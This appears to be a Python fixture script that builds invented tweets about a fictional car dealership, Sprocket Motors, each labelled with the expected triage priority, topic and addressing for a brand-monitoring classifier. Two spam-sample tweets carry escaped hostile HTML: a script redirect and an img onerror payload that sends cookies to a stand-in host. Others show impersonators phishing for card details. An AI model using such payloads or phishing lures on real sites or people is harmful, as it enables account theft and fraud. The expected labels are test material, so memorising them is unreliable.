# Sprocket Motors: a made-up chain of car dealerships and service garages around Kelsby
# (branches in Kelsby, Ashcombe, Dunmoor, Hollin Bridge and Brackton): new and used car
# sales, test drives, part-exchange, car finance, servicing and MOTs, repairs and courtesy
# cars, warranty claims, manufacturer recalls, breakdown cover, logbooks and spare keys.
# "Sprocket" is also a toothed wheel on bikes and motorbikes (and the holes along a roll
# of film), Sprocket the Robot on children's TV, the Sprocket Inn pub, Sprocket Cycles
# (a bike shop) and a surname (a retiring primary-school teacher): none of them is the
# car dealer.
# Written blind, from PRODUCT.md and the scenario README's conventions only.
# Exec'd inside make_data.py's namespace (see BRANDS there). Every post, person, place,
# car model, phone number, card number, address and email address here is made up. Phone
# numbers are from the UK drama ranges; the card number is a Luhn-valid test number.


def build_sprocket_motors():
    global CURRENT_BRAND, CLOCK
    brand = Brand("sprocket-motors", SCEN_DIR / "sprocket-motors.plan.toml", "SprocketMotors", 4256789025,
                  1861220000000002901)
    CURRENT_BRAND, CLOCK = brand, Clock("2027-10-11T06:30:00Z")
    B = "SprocketMotors"
    user(B, "Sprocket Motors", 4256789025,
         "Sprocket Motors help team 🚗 sales, service & MOT, finance and breakdown cover across Kelsby, Ashcombe, "
         "Dunmoor, Hollin Bridge & Brackton. 8am–8pm Mon–Sat. Service line 0808 157 0731. Never post card numbers here.",
         22_400, following=610, tweets=58_000, listed=140, verified=True)
    user("hattie_brewin", "Hattie Brewin", 7910230481, "Remote worker, dog walker, Brackton.", 210)
    user("gwilym_spokes", "Gwilym Rees", 7910230517, "Gravel, hills, more gravel. 🚵", 640)
    user("jen_okafor_dm", "Jen Okafor", 7910230552, "Dunmoor. Mum of two. Always late, never my fault.", 380)
    user("baz_towbar", "Barry Quill", 7910230598, "Ex-HGV. Opinions free.", 150)
    user("sam_ellery_k", "Sam Ellery", 7910230623, "Teaching assistant. Kelsby.", 260)
    user("cbeebie_mum_lo", "Lorna Pike", 7910230669, "Twins, 3. Coffee, cold.", 470)
    user("nadia_ferr_hb", "Nadia Ferreira", 7910230704, "Hollin Bridge. Nurse. Mum to Ava 🌸", 320)
    user("ruthie_linnane", "Ruth Linnane", 7910230741, "First car at 34. Never too late.", 180)
    user("grumpy_greg_k", "Greg Halloran", 7910230786, "Plasterer. Kelsby Road. Says it straight.", 240)
    user("millie_strand", "Millie Strand", 7910230812, "Marketing by day. Sarcasm by night.", 890)
    user("toby_gaskell", "Toby Gaskell", 7910230859, "Overdrawn and over it.", 300)
    user("CarDealsDaily_", "Car Deals Daily 🚗🔥", 7910230893, "Best car deals & giveaways daily!! Follow to win 🎁", 5300,
         following=4990)
    user("devraj_patil", "Devraj Patil", 7910230927, "Civil engineer. Ashcombe. Cricket.", 410)
    user("SprocketCare_UK", "Sprocket Motors Support ✅", 7910230961,
         "Official customer support 24/7 ✅ warranty, finance & claims. DM or WhatsApp for fast help", 31, following=2700)
    user("kerry_blythe", "Kerry Blythe", 7910231005, "Hair & beauty. Ashcombe.", 520)
    user("ollie_vance_a", "Ollie Vance", 7910231042, "", 95)
    user("quizakabusi_tom", "Tom Ashdown", 7910231078, "Pub quiz captain. Still bitter about the tiebreak.", 170)
    user("JaxHartley", "Jax Hartley", 7910231114, "Breakfast radio. Dog dad. Opinions are the station's, obviously (they're not).",
         920_000, following=1300, listed=3100, verified=True)
    user("hartley_fanpage", "Jaxettes 💛", 7910231150, "Fan account for @JaxHartley", 2100)
    user("maggie_oduya", "Maggie Oduya", 7910231187, "Carer to my husband. Brackton.", 75)
    user("rhys_t1d", "Rhys Penhaligon", 7910231223, "Type 1 since '09. Sales rep, lots of miles.", 330)
    user("stevie_marsh_d", "Steve Marsh", 7910231259, "Dunmoor. Retired postie.", 140)
    user("lena_kowal_ky", "Lena Kowal", 7910231294, "Kelsby. Bookkeeper. Reads the small print.", 210)
    user("wayne_pratley", "Wayne Pratley", 7910231331, "", 60)
    user("kev_dunmoor", "Kevin Rourke", 7910231402, "Scaffolder. Kelsby Town fan.", 190)
    user("ana_rocha_ash", "Ana Rocha", 7910231438, "Portuguesa em Ashcombe. Professora.", 150)
    user("KelsbyPost", "The Kelsby Post", 7910231474, "News for Kelsby, Ashcombe and the Dun valley.", 38_500,
         following=900, verified=True)
    user("martje_bakker", "Martje Bakker", 7910231547, "Groningse in Dunmoor. Fietser, maar toch.", 110)
    user("lee_crabtree", "Lee Crabtree", 7910231620, "", 40)
    user("tomek_wrobel_ky", "Tomasz Wróbel", 7910231656, "Kelsby. Elektryk. Skoda fan.", 130)
    user("carmen_ruiz_hb", "Carmen Ruiz", 7910231692, "Sevillana en Hollin Bridge. Matrona (ironías de la vida).", 240)
    user("amelie_roux_ky", "Amélie Roux", 7910231729, "Lyonnaise à Kelsby. Kiné.", 200)
    user("gary_fenn_br", "Gary Fenn", 7910231838, "Brackton. Fed up.", 70)
    user("claire_whitby_d", "Claire Whitby", 7910231874, "NHS admin. Two boys, one cat.", 260)
    user("bikeshed_bea", "Bea Lund", 7910231910, "Commuter cyclist. Mild chaos.", 350)
    user("rosie_tamworth", "Rosie Tamworth", 7910231946, "", 110)
    user("hannah_okoye_d", "Hannah Okoye", 7910231983, "Dunmoor. Single mum. Not here for nonsense.", 230)
    user("pete_lowther", "Pete Lowther", 7910232019, "Kestro owner, reluctantly.", 90)
    user("yvonne_caddick", "Yvonne Caddick", 7910232055, "Grandma, gardener, Brackton WI.", 160)
    user("marcus_beale", "Marcus Beale", 7910232091, "Dad. Brackton. Drives a lot for work.", 280)
    user("xss_ravi_qa", "Ravi Menon", 7910232128, "Test engineer. I break booking forms for fun.", 1500)
    user("SprocketDealz", "Sprocket Dealz 🔥", 7910232164, "Exclusive discount codes 🔥🔥 not affiliated", 44, following=3100)
    user("ice_rink_kid", "Danny Shaw", 7910232200, "Ashcombe born and bred.", 170)
    user("inflatable_fan", "Priya Nair", 7910232236, "Kelsby. Easily amused.", 420)
    user("filmroll_fran", "Fran Adeyemi", 7910232273, "Shooting film badly since 2019 📷", 1100)
    user("mt07_mick", "Mick Jarrow", 7910232309, "Bikes, bolts, bad knees.", 310)
    user("hollin_wheelers", "Sian Draycott", 7910232345, "Club rider. Hollin Wheelers CC. Coffee stop enthusiast.", 580)
    user("road_bike_raj", "Raj Bhatt", 7910232418, "Weekend rider, weekday spreadsheet.", 230)
    user("ben_cartwright7", "Ben Cartwright", 7910232454, "Sixth-form chemistry teacher. Kelsby.", 150)
    user("IsobelQuaynes", "Isobel Quaynes", 7910232490, "Novelist. 'The Salt House' out now. Daughter of a stubborn man.",
         1_150_000, following=900, listed=5200, verified=True)
    user("fi_montague", "Fiona Montague", 7910232526, "Ashcombe. Tea, telly, tantrums (the kids').", 190)
    user("nat_harrow", "Nat Harrow", 7910232563, "PE teacher. Kelsby Juniors.", 210)
    user("shaun_k_rudd", "Shaun Rudd", 7910232599, "", 55)
    user("liz_penrose_k", "Liz Penrose", 7910232635, "Loyal to a fault. Kelsby.", 140)
    user("oakley_dene", "Oakley Dene", 7910232671, "Café owner, Dunmoor high street.", 620)

    # ---- Monday, 11 October ------------------------------------------------------------
    mot_q = tw("hattie_brewin", f"@{B} morning! how long does an MOT usually take at Brackton? can I sit and wait or do I have to leave it all day? I'll work from the waiting area if so",
               when="2027-10-11T07:42:10Z")
    SC("spm-mot-wait-question", "question", mot_q, expect(RP, "normal", "servicing", "direct"))
    SC("spm-common-gravel-bike-sprocket", "common-word",
       tw("gwilym_spokes", "new chainring and an 11-42 rear sprocket on the gravel bike and the climbs feel like cheating now 🚲💨",
          when="2027-10-11T07:55:31Z"),
       expect(IGN, "low", None, "none"), note="the toothed wheel on a bicycle")
    jen = tw("jen_okafor_dm", f"@{B} engine light back on, 3rd day running. Dunmoor 'fixed' it last week for £380. so I paid for a repair that didn't repair anything?",
             when="2027-10-11T08:05:02Z")
    SC("spm-engine-light-back-on", "complaint-direct", jen, expect(RP, "normal", "servicing", "direct"),
       note="an ordinary complaint for now: the light is back, nothing yet says the car is unsafe",
       known_miss="round 9, not met yet: priority: want 'normal', got high; the engine read: addressed to @SprocketMotors | complaint (0.81) | the problem keeps coming back | topic servicing: 'repair'")
    wheel = tw("sam_ellery_k", f"@{B} hi, had 4 new tyres fitted at Kelsby on Saturday. heard a knocking this morning so I checked and two of the wheel nuts on the front left were loose, they turned by hand. I've done them up with the wrench from the boot. is it ok to drive for the school run?",
               when="2027-10-11T08:11:47Z")
    SC("spm-wheel-nuts-loose-after-tyres", "safety-urgent", wheel, expect(RP, "urgent", "safety", "direct"),
       note="calm and polite, but loose wheel nuts after the garage fitted tyres, and she is about to drive children")
    jen_brand = tw(B, "@jen_okafor_dm Sorry Jen, that shouldn't happen after a repair. Dunmoor will recheck it free of charge: I've asked them to ring you this morning with a slot. Could you DM me the reg so I can pull up the job?",
                   reply_to=jen, when="2027-10-11T08:26:15Z")
    SC("spm-brand-reply-jen", "brand-own-post", jen_brand, expect(IGN, "low", "servicing", "none"),
       known_miss="round 9, not met yet: topic: want 'servicing', got finance; the engine read: the brand's own post | topic finance: 'charged'")
    wheel_brand = tw(B, "@sam_ellery_k Please don't drive it yet, Sam. Kelsby are sending a technician to you now to check and torque all four wheels, about 30 minutes. I'll stay on here with you until he arrives.",
                     reply_to=wheel, when="2027-10-11T08:19:40Z")
    SC("spm-namesake-sprocket-the-robot", "namesake",
       tw("cbeebie_mum_lo", "if I hear the Sprocket the Robot theme tune one more time today I will simply walk into the sea 🤖🎶 'beep boop who's a helper' is burned into my soul",
          when="2027-10-11T09:02:18Z"),
       expect(IGN, "low", None, "none"), note="the children's TV robot; 'walk into the sea' is a figure of speech",
       known_miss="round 9, not met yet: action: want 'ignore', got monitor; addressed: want 'none', got indirect; the engine read: names Sprocket Motors in a post to everyone | general chatter about the brand")
    SC("spm-child-trapped-in-demonstrator", "safety-urgent",
       tw("nadia_ferr_hb", f"@{B} my 14 month old is locked in the demonstrator at your Hollin Bridge branch, your lad shut the door with the key inside. sun's right on the car, she's trapped in there screaming and they're still 'looking for the spare'. tell them to break the window please",
          when="2027-10-11T09:34:55Z"),
       expect(RP, "urgent", "safety", "direct"), note="a baby shut in a car in the sun, right now")
    SC("spm-wheel-nuts-sorted-thanks", "thread-with-brand",
       tw("sam_ellery_k", "he's been and gone, all four re-torqued and he checked the brakes while he was at it. thank you for sorting it so fast, school run made 👍",
          reply_to=wheel_brand, when="2027-10-11T09:41:12Z"),
       expect(RP, "low", "safety", "direct"),
       note="back in the brand's thread without @: thanks, and the danger is over, so not urgent any more")
    SC("spm-praise-priya-first-new-car", "praise",
       tw("ruthie_linnane", f"@{B} huge thank you to Priya at Dunmoor. no pressure, no hard sell, let me do the test drive twice because I'm a nervous driver. picked up my first ever new car today and I keep going out to look at it 🥹🚗",
          when="2027-10-11T10:15:36Z"),
       expect(RP, "low", "sales", "direct"))
    jen_a38 = tw("jen_okafor_dm", "they rang. 'just a sensor, fine to drive till Thursday'. well now the oil light's flashing red, it's knocking and losing power on the A38 with both kids in the back. nowhere to pull in for miles. it feels dangerous to stop in the lane and dangerous to keep going. what do I do",
                 reply_to=jen_brand, when="2027-10-11T11:20:09Z")
    SC("spm-a38-losing-power-kids-in-back", "safety-urgent", jen_a38, expect(RP, "urgent", "safety", "direct"),
       note="a reply in the brand's thread without @: the warning the garage waved off, now failing on a fast road with children")
    SC("spm-chatter-hazards-on", "third-party-chatter",
       tw("baz_towbar", "@jen_okafor_dm hazards on, get in the first gap you see, kids out the passenger side and behind the barrier. ring 999 if it starts smoking. Sprocket can wait",
          reply_to=jen_a38, when="2027-10-11T11:27:44Z"),
       expect(MON, "low", "safety", "third_party"),
       note="a stranger's good advice inside someone else's thread: Jen's own post is the urgent case, not this one",
       known_miss="round 9, not met yet: priority: want 'low', got urgent; the engine read: a reply in someone else's conversation that does not tag the brand | about the brand: monitor, don't butt in | a person at risk: urgent | topic safety: '999', 'smoke', 'smoking'")
    SC("spm-brakes-buried-in-rant", "safety-urgent",
       tw("grumpy_greg_k", "Sprocket Motors, where do I start. car 2 hours late, not washed like they promised, charged me for wipers I never asked for, and on the way home the brake pedal went nearly to the floor at the lights on Kelsby Road. stopped it on the handbrake. not touching it",
          when="2027-10-11T12:48:20Z"),
       expect(RP, "urgent", "safety", "indirect"),
       note="failing brakes right after a service, buried at the end of a list of small gripes; named, not tagged",
       known_miss="round 9, not met yet: addressed: want 'indirect', got direct; the engine read: speaks to Sprocket Motors by name | complaint (0.98) | a danger to health or safety: urgent | topic safety: 'brake pedal', 'brake', 'brakes'")
    SC("spm-sarcasm-mot-1400", "sarcasm-customer",
       tw("millie_strand", f"love that my car went into @{B} for an MOT and came out 'needing' £1,400 of work before it could pass. then passed at the independent round the corner an hour later for £54.85. great value, would recommend 🙃",
          when="2027-10-11T13:30:02Z"),
       expect(RP, "normal", "servicing", "indirect"), note="sarcasm from a customer; the handle in passing")
    SC("spm-spam-win-a-new-car", "spam",
       tw("CarDealsDaily_", "🚗 MEGA GIVEAWAY 🚗 WIN a brand new car from Sprocket Motors!! follow us, like + RT and tap the link to enter 👉 {url:https://car-deals-daily.example/win}",
          when="2027-10-11T14:00:00Z"),
       expect(IGN, "low", "sales", "indirect"), note="a fake giveaway using the brand's name; the topic follows the keyword")
    dev = tw("devraj_patil", f"@{B} bought a used Focus from Ashcombe 9 days ago and the clutch is slipping already. surely that's under the warranty? nobody at the branch will call me back",
             when="2027-10-11T14:22:37Z")
    SC("spm-clutch-slipping-nine-days", "complaint-direct", dev, expect(RP, "normal", "warranty", "direct"))
    SC("spm-spam-fake-warranty-desk", "spam",
       tw("SprocketCare_UK", "@devraj_patil Hi Devraj 👋 Sprocket Motors warranty desk here! We can approve your claim today ✅ Just DM us your full name, reg, card number and date of birth, or WhatsApp us 👉 {url:https://sprocket-care.example/claim}",
          reply_to=dev, when="2027-10-11T14:31:09Z"),
       expect(IGN, "low", "warranty", "third_party"), note="an impersonator fishing for card details in a customer's thread")
    SC("spm-chatter-consumer-rights", "third-party-chatter",
       tw("kerry_blythe", "@devraj_patil inside 30 days you can reject it outright under the Consumer Rights Act. don't let Sprocket talk you into a repair, put it in writing",
          reply_to=dev, when="2027-10-11T14:50:26Z"),
       expect(MON, "low", "warranty", "third_party"), note="a stranger's advice in someone else's thread")
    dev_brand = tw(B, "@devraj_patil Sorry Devraj, a slipping clutch 9 days in isn't right. Please ignore any account asking for card details: that isn't us. I've passed this to the warranty team at Ashcombe and they'll ring you by tomorrow lunchtime.",
                   reply_to=dev, when="2027-10-11T15:05:48Z")
    ollie_q = tw("ollie_vance_a", "@kev_dunmoor how's the car situation, still walking everywhere?", when="2027-10-11T16:10:00Z")
    ollie_vent = tw("kev_dunmoor", "@ollie_vance_a don't. Sprocket had it 3 weeks for a 'minor' repair and the courtesy car they finally gave me smells like wet dog and the passenger window doesn't shut. living the dream",
                    reply_to=ollie_q, when="2027-10-11T16:24:31Z")
    SC("spm-venting-wet-dog-courtesy-car", "third-party-venting", ollie_vent, expect(MON, "low", "servicing", "third_party"),
       note="lesson 2: venting to a friend, brand named but not tagged")
    SC("spm-bystander-pedals", "joke-bystander",
       tw("quizakabusi_tom", "@kev_dunmoor @ollie_vance_a you took your car to a firm called Sprocket, what did you expect, pedals? 😂🚲",
          reply_to=ollie_vent, when="2027-10-11T16:40:03Z"),
       expect(IGN, "low", None, "third_party"), note="a pun on the name from a stranger inside other people's thread")
    SC("spm-namesake-sprocket-inn-quiz", "namesake",
       tw("quizakabusi_tom", "quiz night at the Sprocket Inn tonight. team name 'Quiz Akabusi', and we are coming for that meat raffle 🏆",
          when="2027-10-11T17:05:45Z"),
       expect(IGN, "low", None, "none"), note="the pub")
    jax = tw("JaxHartley", f"Left my car with @{B} in Ashcombe for a 'routine service' on Tuesday. Six days, three calls unreturned, and when I finally got it back it had 140 extra miles on it and a Brighton parking ticket on the dash. Anyone want to explain?",
             when="2027-10-11T18:12:30Z",
             metrics={"retweet_count": 2400, "reply_count": 880, "like_count": 15100, "quote_count": 310})
    SC("spm-big-reach-140-extra-miles", "big-reach", jax, expect(RP, "high", "servicing", "indirect"),
       note="920k followers; the handle in the middle of the post")
    SC("spm-repost-jax", "repost", tw("hartley_fanpage", "", retweet=jax, when="2027-10-11T18:20:11Z"),
       expect(IGN, "low", "servicing", "indirect"))

    # ---- Tuesday, 12 October -----------------------------------------------------------
    SC("spm-dialysis-car-stuck-in-workshop", "medical-urgent",
       tw("maggie_oduya", f"@{B} hi, my husband's car has been in your Brackton workshop since Friday waiting for a part. he has dialysis three times a week at Kelsby General, next session is tomorrow at 7am, and he's too weak for the bus after it. is there any chance of a courtesy car today?",
          when="2027-10-12T07:05:19Z"),
       expect(RP, "urgent", "servicing", "direct"), note="a calm question, but about getting to dialysis tomorrow")
    SC("spm-type1-breakdown-no-show", "medical-urgent",
       tw("rhys_t1d", f"@{B} your breakdown cover said 60 mins. that was 2 hrs 40 ago. I'm on the B4100 past Hollin Bridge, car dead, I'm type 1 and I've used my last glucose tabs. sugar's 3.4 and dropping, phone on 9%",
          when="2027-10-12T07:48:02Z"),
       expect(RP, "urgent", "breakdown", "direct"), note="a diabetic driver going hypo at the roadside")
    SC("spm-ombudsman-pcp-never-settled", "legal-threat-not-urgent",
       tw("stevie_marsh_d", f"@{B} third email in a month, no reply. you took my old car in part-ex and never paid off the PCP finance on it, so I'm still getting letters for a car I don't own. next stop is the Financial Ombudsman",
          when="2027-10-12T08:30:41Z"),
       expect(RP, "high", "finance", "direct"), note="a regulator threat after repeated silence: high, not urgent",
       known_miss="round 9, not met yet: topic: want 'finance', got sales; the engine read: addressed to @SprocketMotors | complaint (0.96) | legal or regulatory threat (not urgent) | the problem keeps coming back | topic sales: 'part-ex'")
    clocked = tw("lena_kowal_ky", "Bought a 'one owner, 38k miles' Golf from Sprocket Motors Kelsby. The MOT history online says 71k two years ago. It's been clocked. Trading Standards have it and I've filed a small claims case. Check before you buy a used car from them.",
                 when="2027-10-12T09:02:55Z")
    SC("spm-clocked-golf-trading-standards", "legal-threat-not-urgent", clocked, expect(RP, "high", "sales", "indirect"),
       note="a court and Trading Standards threat from a customer who named the brand without tagging it")
    SC("spm-bystander-robot-joke", "joke-bystander",
       tw("wayne_pratley", "@lena_kowal_ky Sprocket Motors? thought that was the little robot off kids' telly 🤖 would explain a lot tbh",
          reply_to=clocked, when="2027-10-12T09:15:30Z"),
       expect(IGN, "low", None, "third_party"), note="a stranger's joke about the name inside a customer's thread",
       known_miss="round 9, not met yet: action: want 'ignore', got monitor; the engine read: a reply in someone else's conversation that does not tag the brand | about the brand: monitor, don't butt in")
    SC("spm-abuse-cowboys-courtesy-car", "abuse-with-problem",
       tw("gary_fenn_br", f"@{B} you useless shower of cowboys. 3 weeks I've been promised a courtesy car while mine sits in your garage and NOTHING. pay for my taxis or give me my car back, it's not hard",
          when="2027-10-12T09:40:17Z"),
       expect(RP, "high", "servicing", "direct"), note="rude, but three weeks without a car")
    SC("spm-abuse-gap-direct-debit", "abuse-with-problem",
       tw("shaun_k_rudd", f"@{B} you thieving gits. I cancelled the GAP insurance in writing in August and you're STILL taking £14.99 a month by direct debit. give it back",
          when="2027-10-12T10:02:48Z"),
       expect(RP, "high", "finance", "direct"), note="insults, with money taken after a cancellation")
    SC("spm-private-card-deposit-twice", "private-details",
       tw("marcus_beale", f"@{B} you've charged my card twice for the deposit on the Tiguan, card 4111 1111 1111 1111, £500 on the 9th and £500 again on the 11th. I need the refund before my rent goes out on Friday",
          when="2027-10-12T11:05:44Z"),
       expect(RV, "normal", "finance", "direct"), note="a full card number in public")
    SC("spm-private-home-address-key-safe", "private-details",
       tw("claire_whitby_d", f"@{B} my service is on Thursday with collection and delivery. address is 7 Larkspur Close, Dunmoor DN4 7QT, car's on the drive and the keys will be in the key safe by the front door, code 4471",
          when="2027-10-12T11:40:23Z"),
       expect(RV, "normal", "servicing", "direct"), note="a home address and a key-safe code in public")
    SC("spm-news-brackton-showroom-closing", "news-monitor",
       tw("KelsbyPost", "Sprocket Motors is to close its Brackton showroom in January, with 38 jobs at risk, the company confirmed on Tuesday. {url:https://kelsby-post.example/2027/10/sprocket-brackton}",
          when="2027-10-12T12:00:00Z"),
       expect(MON, "low", "sales", "indirect"))
    rating = tw(B, "⭐ 4.8 out of 5 from 12,000 service customers this year. Thank you, and thank you to every technician in our garages!",
                when="2027-10-12T13:00:00Z")
    SC("spm-quote-48-stars-19-days", "quote",
       tw("fi_montague", "4.8?? mine's been sat in your workshop 19 days waiting for 'a part' and nobody can tell me which part", quote=rating,
          when="2027-10-12T13:21:37Z"),
       expect(RP, "normal", "servicing", "indirect"), strict=False,
       note="quotes the brand's post without tagging it, with her own complaint")
    SC("spm-nl-proefrit-zaterdag", "non-english",
       tw("martje_bakker", f"@{B} goedemiddag, kan ik zaterdag een proefrit maken in de elektrische Niro bij Dunmoor? Of moet ik eerst bellen?",
          lang="nl", when="2027-10-12T14:30:12Z"),
       expect(RP, "normal", "sales", "direct"), note="Dutch: can I book a test drive on Saturday")
    SC("spm-threat-salesman-audi", "threat-urgent",
       tw("lee_crabtree", "that salesman at Sprocket Ashcombe who sold my mum a dud and laughed at her when she took it back. I know which Audi is his and what time he finishes. he won't be laughing on Friday",
          when="2027-10-12T15:40:02Z"),
       expect(ANY, "urgent", "sales", "indirect"), note="a veiled threat against a named member of staff, with a grievance behind it")
    tomasz = tw("tomek_wrobel_ky", f"@{B} skrzynia biegów w mojej Octavii padła po 5 miesiącach, a wy odrzuciliście reklamację z gwarancji, bo to niby 'zużycie'. To jest skandal.",
                lang="pl", when="2027-10-12T16:05:27Z")
    SC("spm-pl-gearbox-warranty-rejected", "non-english", tomasz, expect(RP, "normal", "warranty", "direct"),
       note="Polish: the gearbox died after 5 months and the warranty claim was refused as 'wear'")
    tomasz_brand = tw(B, "@tomek_wrobel_ky Przykro nam, Tomasz. Poprosiłem kierownika w Kelsby, żeby jeszcze raz sprawdził tę sprawę. Odezwiemy się do jutra do południa.",
                      reply_to=tomasz, lang="pl", when="2027-10-12T16:30:44Z")
    SC("spm-pl-threat-manager-where-he-parks", "threat-urgent",
       tw("tomek_wrobel_ky", "Nie obchodzi mnie wasza procedura reklamacji. Jutro przyjadę do Kelsby i ten kierownik, który się ze mnie śmiał, gorzko tego pożałuje. Wiem, gdzie parkuje.",
          reply_to=tomasz_brand, lang="pl", when="2027-10-12T16:52:10Z"),
       expect(ANY, "urgent", "warranty", "direct"),
       note="Polish, in the brand's thread without @: 'the manager who laughed at me will bitterly regret it; I know where he parks'")
    SC("spm-es-embarazada-en-el-arcen", "medical-urgent",
       tw("carmen_ruiz_hb", f"@{B} estoy embarazada de 37 semanas, tirada en el arcén de la A46 desde hace dos horas con el coche averiado. La grúa de vuestra asistencia no llega y empiezo a tener contracciones. ¿Alguien puede hacer algo?",
          lang="es", when="2027-10-12T18:15:33Z"),
       expect(RP, "urgent", "breakdown", "direct"),
       note="Spanish: 37 weeks pregnant, stranded on the hard shoulder for two hours, contractions starting")
    SC("spm-fr-roue-detachee-rocade", "safety-urgent",
       tw("amelie_roux_ky", "La roue arrière gauche s'est détachée sur la rocade ce matin, trois jours après le changement de pneus chez Sprocket Motors à Kelsby. J'ai réussi à m'arrêter, personne de blessé, mais j'aurais pu tuer quelqu'un. Qui vérifie les écrous chez vous ?",
          lang="fr", when="2027-10-12T19:02:48Z"),
       expect(RP, "urgent", "safety", "indirect"),
       note="French: a wheel came off on the ring road after the garage changed the tyres; nobody hurt, but other cars fitted "
            "that day may be at risk")

    # ---- Wednesday, 13 October ---------------------------------------------------------
    SC("spm-news-workshop-fire-nobody-hurt", "news-monitor",
       tw("KelsbyPost", "Fire crews were called to the Sprocket Motors workshop on Dunmoor industrial estate overnight. Two cars were damaged; nobody was hurt and the site reopens today, the company said. {url:https://kelsby-post.example/2027/10/dunmoor-fire}",
          when="2027-10-13T06:30:00Z"),
       expect(MON, "low", "safety", "indirect"), note="news of a fire that is over, with nobody hurt: sounds alarming, is not urgent")
    SC("spm-pt-revisao-ninguem-atendeu", "non-english",
       tw("ana_rocha_ash", f"@{B} bom dia, a revisão do meu carro estava marcada para hoje às 9h em Ashcombe e ninguém me atendeu. Esperei uma hora ao balcão. Podem remarcar?",
          lang="pt", when="2027-10-13T09:10:15Z"),
       expect(RP, "normal", "servicing", "direct"), note="Portuguese: waited an hour for a service booking nobody honoured")
    SC("spm-repeat-warranty-no-call", "repeat-contact",
       tw("devraj_patil", "it's Wednesday afternoon. no call from your warranty team yesterday lunchtime, none today. car's undriveable on the drive and I'm still paying for it",
          reply_to=dev_brand, when="2027-10-13T14:20:31Z"),
       expect(RP, "high", "warranty", "direct"), note="the brand promised a call and the problem is still there")
    SC("spm-repeat-v5-third-time", "repeat-contact",
       tw("yvonne_caddick", f"@{B} for the third time of asking: where is the V5 for the car I bought from Brackton 7 weeks ago? I can't tax it without the logbook and they just keep saying 'it's in the post'",
          when="2027-10-13T10:55:18Z"),
       expect(RP, "high", "documents", "direct"), note="third time of asking")
    SC("spm-hotline-warranty-on-hold", "public-hotline-number",
       tw("liz_penrose_k", f"rang @{B} on 0808 157 0731 four times this week about my warranty claim. 50 minutes on hold, then cut off. every single time",
          when="2027-10-13T11:30:09Z"),
       expect(RP, "high", "warranty", "indirect"), strict=False,
       note="the number is the brand's own service line, not hers; four calls make it a repeated complaint")
    SC("spm-hotline-breakdown-number-check", "public-hotline-number",
       tw("rosie_tamworth", "is 0808 157 0732 the right number for Sprocket Motors breakdown cover? it's on the sticker in my windscreen but it says the number isn't recognised. no rush, car's fine, just want it saved before winter",
          when="2027-10-13T12:04:50Z"),
       expect(RP, "normal", "breakdown", "indirect"), strict=False,
       note="a calm question about what looks like the brand's own breakdown line; not a private detail")
    SC("spm-chatter-inflatable-gorilla", "chatter-monitor",
       tw("inflatable_fan", "the Sprocket Motors on the Kelsby ring road has put a 20ft inflatable gorilla on the roof for the weekend and honestly it's the best thing to happen to this town all year 🦍",
          when="2027-10-13T12:40:26Z"),
       expect(MON, "low", None, "indirect"), note="talk about the brand with nothing to answer")
    SC("spm-chatter-old-ice-rink", "chatter-monitor",
       tw("ice_rink_kid", "the new Sprocket Motors on the Ashcombe bypass is where the old ice rink used to be. spent my whole childhood falling over there and now it's rows of hatchbacks",
          when="2027-10-13T13:15:44Z"),
       expect(MON, "low", None, "indirect"))
    SC("spm-common-35mm-sprocket-holes", "common-word",
       tw("filmroll_fran", "loaded a roll of HP5 and the sprocket holes tore on frame 3. whole roll ruined. film photography is a character-building hobby 📷",
          when="2027-10-13T13:50:02Z"),
       expect(IGN, "low", None, "none"), note="the perforations along a film")
    SC("spm-common-chain-and-sprocket-kit", "common-word",
       tw("mt07_mick", "chain and sprocket kit on the MT-07 done on the driveway in 2 hours. only lost one bolt, and my dignity",
          when="2027-10-13T14:02:11Z"),
       expect(IGN, "low", None, "none"), note="motorbike parts")
    SC("spm-common-sprocket-teeth-over-the-bars", "common-word",
       tw("hollin_wheelers", "rear sprocket lost three teeth on the climb out of Hollin Bridge, chain jumped and I went straight over the bars. bit of road rash, ego destroyed, bike fine. club ride continues next week 🚴",
          when="2027-10-13T15:30:49Z"),
       expect(IGN, "low", None, "none"), note="a bike part and a minor fall that is over; nothing to do with cars")
    SC("spm-namesake-sprocket-cycles-service", "namesake",
       tw("road_bike_raj", "Sprocket Cycles in Kelsby did a full service on my road bike for £45 and found a frayed gear cable I'd missed. proper bike shop",
          when="2027-10-13T16:40:17Z"),
       expect(IGN, "low", "servicing", "none"),
       note="a bike shop with the same first name; 'service' is a plan keyword, so the topic follows it")
    SC("spm-namesake-sprocket-inn-fight", "namesake",
       tw("KelsbyPost", "Two men were arrested after a fight outside the Sprocket Inn on Mill Lane on Saturday night. Police said a 24-year-old was treated in hospital for minor injuries. {url:https://kelsby-post.example/2027/10/mill-lane-arrests}",
          when="2027-10-13T17:00:00Z"),
       expect(IGN, "low", "safety", "none"), note="news about the pub, not the car dealer; the topic follows 'police'")
    SC("spm-html-booking-page-script", "html-entities",
       tw("xss_ravi_qa", f"@{B} your online service booking page just shows &lt;script&gt;window.location='//promo-sprk.example'&lt;/script&gt; where the calendar should be &amp; won't let me pick a date for the MOT. tried 2 browsers",
          when="2027-10-13T18:20:45Z"),
       expect(RP, "normal", "servicing", "direct"))
    SC("spm-html-spam-discount-codes", "html-entities",
       tw("SprocketDealz", "🔥 Sprocket Motors staff discount codes LEAKED 🔥 &lt;img src=x onerror=fetch('//grab.example/'+document.cookie)&gt; up to 80% off any used car, today only 👉 {url:https://sprk-dealz.example/codes}",
          when="2027-10-13T19:00:00Z"),
       expect(IGN, "low", "sales", "indirect"), note="spam carrying hostile HTML")

    # ---- Thursday, 14 October ----------------------------------------------------------
    recall = tw(B, "Recall: some 2022–2023 Kestro hatchbacks need a free fuel pipe check and replacement. Had a recall letter? Please ring us or DM us to arrange it; it takes about an hour.",
                when="2027-10-14T08:00:00Z")
    SC("spm-brand-own-recall-notice", "brand-own-post", recall, expect(IGN, "low", "recalls", "none"))
    SC("spm-repost-recall-notice", "repost", tw("pete_lowther", "", retweet=recall, when="2027-10-14T08:12:30Z"),
       expect(IGN, "low", "recalls", "indirect"))
    SC("spm-recall-cover-2021", "question-in-reply-to-brand",
       tw("ben_cartwright7", "does the recall cover the 2021 ones too? mine's a Kestro from March 2021 and I haven't had a letter",
          reply_to=recall, when="2027-10-14T08:25:06Z"),
       expect(RP, "normal", "recalls", "direct"), note="a question under the brand's post, no @")
    SC("spm-quote-recall-rang-twice", "quote",
       tw("nat_harrow", "had the letter in August. rang twice. still waiting for anyone to call me back about this recall 🙃", quote=recall,
          when="2027-10-14T08:40:52Z"),
       expect(RP, "normal", "recalls", "indirect"), strict=False,
       note="quotes the brand's post without tagging it; sarcastic")
